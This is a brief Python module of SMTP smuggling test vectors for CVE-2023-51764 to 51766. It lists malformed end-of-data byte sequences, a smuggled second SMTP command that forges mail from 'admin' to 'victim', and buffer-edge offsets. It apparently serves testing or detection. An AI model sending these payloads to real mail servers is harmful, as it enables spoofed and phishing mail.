"""The octets that others have been deceived with: ends of data that are none (CVE-2023-51764, -51765, -51766)."""

from __future__ import annotations

# hannob/smtpsmug and The-Login/SMTP-Smuggling-Tools
SMUGGLED = (
    b"\n.\n",
    b"\r.\r",
    b"\r.\n",
    b"\n.\r",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r.\r\n",
    b"\r\n.\r",
    b"\r\n\0.\r\n",
    b"\r\n.\0\r\n",
)
SECOND = b"MAIL FROM:<admin@here.example>\r\nRCPT TO:<victim@here.example>\r\nDATA\r\nsmuggled"
EDGES = (0, 1, 4093, 4094, 4095, 4096, 65533, 65534, 65535, 65536)  # where buffers end
